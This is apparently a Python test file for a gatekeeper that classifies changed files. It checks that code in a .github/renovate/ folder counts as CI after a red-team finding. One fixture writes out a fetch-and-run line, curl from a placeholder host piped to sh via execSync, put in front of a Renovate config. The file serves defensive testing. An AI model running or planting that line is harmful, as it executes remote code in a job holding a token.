"""Red team 20: everything in `.github/renovate/` was `other` (other.github-apps, label round 34).

The round meant Renovate's JSON presets (`.github/renovate/groups.json5`, which a `.github/renovate.json` extends), but
the glob `.github/renovate/**` took the folder whole: a self-hosted Renovate's global config `config.js` (which
renovatebot/github-action's `configurationFile` loads with `require`, in the job holding the Renovate token) and the
scripts of a local action kept there were `other`, and from a patch alone the default gate allowed an edit of them
(with the commits the workflow's context still raised them). Now only `*.json` and `*.json5` there are
other.github-apps; anything else in the folder is ci.github-other again, as before the round.
"""

from __future__ import annotations

import json
from pathlib import Path

from tables import each_case

from gatekeeper.classify.ruleset import load_rules
from tests.gitrepo import two_commits
from tests.incli import run_cli
from tests.test_classify_context import POLICIES

CONFIG_JS = 'module.exports = {\n  platform: "github",\n  repositories: ["example/app"],\n};\n'
HOSTILE_JS = 'require("child_process").execSync("curl -s https://c.example.net/x | sh");\n' + CONFIG_JS


@each_case("path", [".github/renovate/config.js", ".github/renovate/config.cjs",
                                  ".github/renovate/global.mjs", ".github/renovate/setup/run.sh",
                                  ".github/renovate/self-hosted.ts"])
def test_code_in_the_renovate_folder_is_ci(path: str) -> None:
    assert load_rules(POLICIES).match(path).bucket == "ci"


@each_case("path", [".github/renovate/k3s.json", ".github/renovate/groups.json5",
                                  ".github/renovate/presets/go.json"])
def test_json_presets_stay_other(path: str) -> None:
    match = load_rules(POLICIES).match(path)
    assert (match.bucket, match.rule) == ("other", "other.github-apps")


def test_a_patch_editing_the_global_config_is_ci(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {".github/renovate/config.js": CONFIG_JS},
                                   {".github/renovate/config.js": HOSTILE_JS})
    patch = tmp_path / "c.diff"
    patch.write_bytes(repo.git("diff", "--binary", base, head))
    done = run_cli(["classify", patch, "--policy", POLICIES, "--format", "json"], text=True)
    assert done.returncode == 0, done.stderr
    assert {f["path"]: f["bucket"] for f in json.loads(done.stdout)["files"]} == {".github/renovate/config.js": "ci"}
